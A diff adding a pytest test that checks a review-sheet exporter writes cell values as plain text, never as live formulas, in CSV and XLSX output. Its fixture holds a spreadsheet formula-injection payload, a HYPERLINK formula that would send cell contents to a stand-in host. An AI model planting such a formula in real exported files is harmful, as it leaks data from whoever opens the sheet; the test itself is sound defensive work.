@@ -91,3 +91,21 @@ def test_review_sheet_added_row_is_marked(table, tmp_path):
 def test_review_sheet_refuses_unknown_format(table, tmp_path):
     with pytest.raises(ValueError, match="csv or .xlsx"):
         to_review(table, tmp_path / "review.ods")
+
+
+def test_review_sheet_never_writes_a_formula(table, tmp_path):
+    crafted = table.iloc[:1].copy()
+    crafted.loc[0, "m1i_text"] = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    crafted.loc[0, "m2i_text"] = "-3.71 (95% CI -5.29 to -2.00"
+    csv = to_review(crafted, tmp_path / "review.csv")
+    lines = csv.read_text(encoding="utf-8-sig")
+    assert ',"\'=HYPERLINK(' in lines and ",'-3.71 (95% CI" in lines
+    xlsx = to_review(crafted, tmp_path / "review.xlsx")
+    cells = {c.value: c.data_type for row in openpyxl.load_workbook(xlsx)["studies"].iter_rows()
+             for c in row}
+    assert cells[crafted.loc[0, "m1i_text"]] == "s"
+    for path in (csv, xlsx):
+        back = from_review(path, original=crafted)
+        assert back.loc[0, "m1i_text"] == crafted.loc[0, "m1i_text"]
+        assert back.loc[0, "m2i_text"] == "-3.71 (95% CI -5.29 to -2.00"
+        assert back.loc[0, "corrected"] == ""
